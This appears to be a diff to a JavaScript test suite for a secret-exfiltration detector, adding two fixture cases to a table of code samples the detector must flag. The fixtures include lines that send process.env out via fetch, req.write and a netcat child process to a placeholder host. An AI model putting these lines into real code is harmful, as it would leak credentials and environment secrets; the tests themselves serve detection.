@@ -31,6 +31,8 @@ describe("secret-exfiltration in JavaScript", () => {
     ],
     ["the environment read on the line after the send", "req.write(\n  JSON.stringify(process.env),\n);"],
     ["a child's stdin written the environment", 'spawn("nc", ["e.invalid", "4444"]).stdin.write(JSON.stringify(process.env))'],
+    ["a POST that names an empty header", 'fetch(u,{method:"POST",headers:{},body:JSON.stringify(process.env)})'],
+    ["the environment on a line naming Authorization", 'req.write(JSON.stringify({ authorization: "x", all: process.env }));'],
   ])("finds %s", (_, code) => {
     expect(sends(code)).toHaveLength(1);
   });
